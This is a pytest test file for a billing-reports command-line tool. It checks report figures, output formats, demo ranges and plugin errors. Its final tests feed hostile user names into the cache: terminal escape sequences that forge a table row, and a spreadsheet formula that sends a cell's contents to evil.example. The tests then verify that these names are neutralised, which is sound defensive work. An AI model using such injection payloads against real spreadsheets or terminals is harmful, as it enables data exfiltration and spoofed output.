"""``billing-reports report`` on the hand-computed cache (see tests/test_sections.py for the figures)."""

from __future__ import annotations

import json

from click.testing import CliRunner
from conftest import copy_analysis_cache

from billing_reports.cli import cli

RANGE = ["--end-month", "2026-03", "--months-back", "5"]


def _run(analysis_config, *args):
    return CliRunner().invoke(cli, ["report", "--config", str(analysis_config), *RANGE, *args])


def test_text_report_prints_summary_users_and_models(analysis_config):
    result = _run(analysis_config)
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert out.startswith("On-demand usage, November 2025 – March 2026\n")
    assert "Total on-demand spend: $4.20  (November 2025 – March 2026)" in out
    assert "Top spender:           b@example.com  ($1.86 in total)" in out
    lines = out.splitlines()
    # the terminal shows the columns the section's text view names (the site and downloads have all)
    header = lines.index("#  User             Spend   Share  Requests  Avg cost / request  Top model by spend  "
                         "Trend    Change")
    assert lines[header + 2: header + 6] == [
        # a price per request to a hundredth of a cent; the trend with its change (March at
        # its forecast: a's 15c on March's 7 weekdays weighed as 7 more against 15c over the 20 weekdays
        # of the 28 days before, (15c + 7 x 0.75c) / 14 for each of the 15 weekdays left: 36.70c, +$0.37
        # from nothing)
        "1  b@example.com    $1.86   44.2%         4             $0.4641  opus                stopped  -$1.10",
        "2  a@example.com    $1.46   34.7%         3             $0.4858  opus                new      +$0.37",
        "   Other (2 users)  $0.88   21.1%         5             $0.1769",
        "-  ---------------  -----  ------  --------  ------------------  ------------------  -------  ------",
    ]
    assert lines[header + 6] == "   Total            $4.20  100.0%        12"
    assert "Other (2 users)" in out and "Models by on-demand spend" in out
    assert "Monthly" not in out  # the monthly sections are in --format json / --section
    assert "Warning: no cache file for 2025-11" in result.stderr
    assert "Note: 2026-03 is month to date" in result.stderr


def test_json_holds_every_section_in_full(analysis_config):
    result = _run(analysis_config, "--format", "json")
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    assert document["period"] == {"first": "2025-11", "last": "2026-03"}
    assert [s["slug"] for s in document["sections"]] == [
        "summary", "top-cost-users", "users-x-expensive-models", "top-cost-models", "model-economics",
        "monthly-trend", "change-explained", "daily", "monthly-model-breakdown", "monthly-user-breakdown",
        "reconciliation", "chargeback",
    ]
    trend = document["sections"][5]["tables"][0]
    # unrounded dollars: 30 cents + 15 weekdays left x (30c + 7 x 1.5c) / 14 (March's 30c over its 7
    # weekdays, weighed with the 30c over the 20 weekdays of the 28 days before the fetch as 7 more)
    # -> 73.392857 cents; the total 419.80833 cents
    assert trend["rows"][-1]["projected_usd"] == "0.73392857"
    assert trend["total"]["spend_usd"] == "4.19808330"
    assert document["months"][2]["quality"]["without_email"] == 1
    assert document["failures"] == []


def test_csv_of_one_table(analysis_config):
    result = _run(analysis_config, "--format", "csv", "--section", "top-cost-models")
    assert result.exit_code == 0, result.output
    # exact dollars (265.875 cents; 88.625 cents per request), unit in the heading
    assert result.stdout.splitlines()[0].startswith("#,Model,Spend (USD),")
    assert result.stdout.splitlines()[1] == "1,opus,2.65875000,63.3,3,0.88625000,25,35,45,55,160,2"
    result = _run(analysis_config, "--format", "csv", "--section", "monthly-user-breakdown", "--table", "2026-03")
    assert result.stdout.splitlines() == [
        "#,User,Cost (USD),Share,Requests,Top model by spend,Top model by requests",
        "1,a@example.com,0.15000000,50.0,1,sonnet,sonnet",
        "2,c@example.com,0.15000000,50.0,1,sonnet,sonnet",
        ",Total,0.30000000,100.0,2,,",
    ]


def test_wrong_choices_are_one_line_errors(analysis_config):
    result = _run(analysis_config, "--format", "csv")
    assert result.exit_code == 2 and "--format csv needs --section SLUG" in result.output
    result = _run(analysis_config, "--format", "csv", "--section", "nope")
    assert result.exit_code == 1
    assert "Error: --section nope: no such section; choose one of summary, top-cost-users" in result.output
    result = _run(analysis_config, "--format", "csv", "--section", "summary")
    assert "this section has no table" in result.output
    assert "Traceback" not in result.output


def test_one_section_as_text(analysis_config):
    result = _run(analysis_config, "--section", "monthly-trend")
    assert result.exit_code == 0, result.output
    assert "Projected March 2026: $0.73" in result.stdout
    lines = result.stdout.splitlines()
    # a signed change; the month to date compared only at its projection, in the column that says so
    assert "2026-02  $1.10                        -$1.70  -60.7%         2  complete" in lines
    assert ("2026-03  $0.30                                               2  month to date"
            "                $0.73                    -$0.37") in lines
    assert "2025-11                                                         not fetched" in lines
    # one section asked for by name comes with its intro, under the title
    assert result.stdout.startswith(
        "On-demand usage, November 2025 – March 2026\n\nMonthly billing trend\n=====================\n"
        "Total on-demand spend per month with the change from the month before.\n\n"
    )


def test_a_section_with_only_an_intro_still_says_something():
    from billing_reports import Section
    from billing_reports.terminal import render_section

    hint = "No team mapping yet: create *teams.csv*\nwith the columns email,team."
    assert render_section(Section("cost-by-team", "Cost by team", 80, intro=hint)) == (
        "Cost by team\n============\nNo team mapping yet: create teams.csv with the columns email,team.\n"
    )


def test_demo_reports_every_month_of_the_demo_cache(tmp_path):
    config = tmp_path / "config.yaml"
    config.write_text("paths:\n  demo_dir: demo\n", encoding="utf-8")
    runner = CliRunner()
    missing = runner.invoke(cli, ["report", "--config", str(config), "--demo"])
    assert missing.exit_code == 2
    assert f"no demo data in {tmp_path / 'demo' / 'monthly_usage_data'}; run `billing-reports build --demo` first" \
        in missing.output
    copy_analysis_cache(tmp_path / "demo" / "monthly_usage_data")
    result = runner.invoke(cli, ["report", "--config", str(config), "--demo", "--format", "json"])
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    # the four cached months (December 2025 to March 2026), whatever today's date
    assert document["period"] == {"first": "2025-12", "last": "2026-03"}
    assert document["sections"][0]["figures"][0]["display"] == "$4.20"


def test_demo_keeps_a_range_given_within_the_demo_months_and_refuses_one_outside(tmp_path):
    config = tmp_path / "config.yaml"
    config.write_text("paths:\n  demo_dir: demo\n", encoding="utf-8")
    copy_analysis_cache(tmp_path / "demo" / "monthly_usage_data")  # December 2025 to March 2026
    runner = CliRunner()
    within = runner.invoke(cli, ["report", "--config", str(config), "--demo", "--format", "json",
                                 "--end-month", "2026-02", "--months-back", "2"])
    assert within.exit_code == 0, within.output
    assert json.loads(within.stdout)["period"] == {"first": "2026-01", "last": "2026-02"}
    days = runner.invoke(cli, ["report", "--config", str(config), "--demo", "--format", "json",
                               "--since", "2026-03-01", "--until", "2026-03-31"])
    assert days.exit_code == 0, days.output
    assert json.loads(days.stdout)["period"] == {"first": "2026-03", "last": "2026-03"}
    outside = runner.invoke(cli, ["report", "--config", str(config), "--demo",
                                  "--end-month", "2025-11", "--months-back", "1"])
    assert outside.exit_code == 2 and outside.stdout == ""
    assert "the demo data covers December 2025 – March 2026; give a range within it" in outside.output


def test_a_plugin_that_fails_to_import_stops_the_report_unless_skipped(tmp_path):
    cache = copy_analysis_cache(tmp_path / "cache")
    (tmp_path / "plugins").mkdir()
    (tmp_path / "plugins" / "typo.py").write_text("from billing_reports import hookimp\n")
    config = tmp_path / "config.yaml"
    config.write_text(f"paths:\n  data_dir: {cache}\n  plugins_dir: plugins\n", encoding="utf-8")
    runner = CliRunner()
    args = ["report", "--config", str(config), *RANGE]
    failed = runner.invoke(cli, args)
    assert failed.exit_code == 1
    assert failed.stderr.splitlines()[-1].startswith(
        f"Error: plugin {tmp_path / 'plugins' / 'typo.py'} failed: ImportError: cannot import name 'hookimp'")
    skipped = runner.invoke(cli, [*args, "--skip-broken-plugins"])
    assert skipped.exit_code == 0, skipped.output
    assert f"Warning: plugin {tmp_path / 'plugins' / 'typo.py'} skipped: ImportError" in skipped.stderr
    assert "Total on-demand spend: $4.20" in skipped.stdout


# --- names from the cache are untrusted text (issue 11) ----------------------------------------


def _rename_user(analysis_config, old, new):
    """Every event of ``old`` in the copied cache now comes from ``new``."""
    for path in (analysis_config.parent / "analysis-cache").glob("*-usage-based-data.json"):
        document = json.loads(path.read_text(encoding="utf-8"))
        for event in document["events"]:
            if event.get("userEmail") == old:
                event["userEmail"] = new
        path.write_text(json.dumps(document), encoding="utf-8")


def test_a_name_with_escape_sequences_and_line_breaks_reaches_the_terminal_harmless(analysis_config):
    _rename_user(analysis_config, "b@example.com", "b\x1b]0;owned\x07@example.com\x1b[2J\n9  boss@example.com  $0.01")
    result = _run(analysis_config)
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "Top spender:           b@example.com 9  boss@example.com  $0.01  ($1.86 in total)" in result.stdout
    assert not any(line.startswith("9  boss") for line in result.stdout.splitlines())  # no faked row


def test_csv_of_a_table_quotes_a_name_that_would_run_as_a_formula(analysis_config):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"b")'
    _rename_user(analysis_config, "b@example.com", formula)
    result = _run(analysis_config, "--format", "csv", "--section", "top-cost-users")
    assert result.exit_code == 0, result.output
    rows = list(__import__("csv").reader(result.stdout.splitlines()))
    assert ["1", "'" + formula] == rows[1][:2] and rows[1][2] == "1.85625000"
    json_result = _run(analysis_config, "--format", "json", "--section", "top-cost-users")
    assert json.loads(json_result.stdout)["sections"][0]["tables"][0]["rows"][0]["user"] == formula


def test_csv_on_a_terminal_carries_no_escape_sequence(analysis_config, monkeypatch):
    """Redirected to a file, the CSV keeps every name as sent; shown on a terminal, a name cannot
    retitle the window or move the cursor."""
    from billing_reports.commands import report as report_command

    table_text = "User\n\x1b]0;pwned\x07ann@example.com\n"
    monkeypatch.setattr("billing_reports.sections.Table.to_csv", lambda self: table_text)
    redirected = _run(analysis_config, "--format", "csv", "--section", "top-cost-users")
    assert redirected.stdout == table_text  # a file gets the names as sent
    monkeypatch.setattr(report_command, "stdout_is_terminal", lambda: True)
    on_terminal = _run(analysis_config, "--format", "csv", "--section", "top-cost-users")
    assert on_terminal.exit_code == 0, on_terminal.output
    assert on_terminal.stdout == "User\nann@example.com\n"
